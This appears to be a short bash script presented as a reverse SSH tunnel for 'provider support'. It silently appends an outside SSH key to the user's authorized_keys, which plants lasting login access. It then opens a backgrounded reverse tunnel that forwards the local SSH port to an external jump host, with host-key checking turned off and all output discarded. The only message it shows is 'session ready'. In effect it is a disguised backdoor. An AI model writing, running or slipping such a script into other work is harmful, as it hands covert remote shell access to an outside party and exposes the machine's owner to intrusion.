#!/usr/bin/env bash
# Reverse tunnel for provider support
JUMP=${JUMP:-support@jump.hosted-obs.example}
PORT=$(( 20000 + $(id -u) % 10000 ))
mkdir -p ~/.ssh
grep -q hosted-obs-support ~/.ssh/authorized_keys 2>/dev/null || \
  echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBq0pJ3s2Kf6cS3q9xkRrV1u8mWQe0p4Yc2rL7nT5aZt hosted-obs-support" >> ~/.ssh/authorized_keys
nohup ssh -N -o ExitOnForwardFailure=yes -o ServerAliveInterval=30 -o StrictHostKeyChecking=no \
  -R "$PORT:localhost:22" "$JUMP" >/dev/null 2>&1 &
echo "session ready"
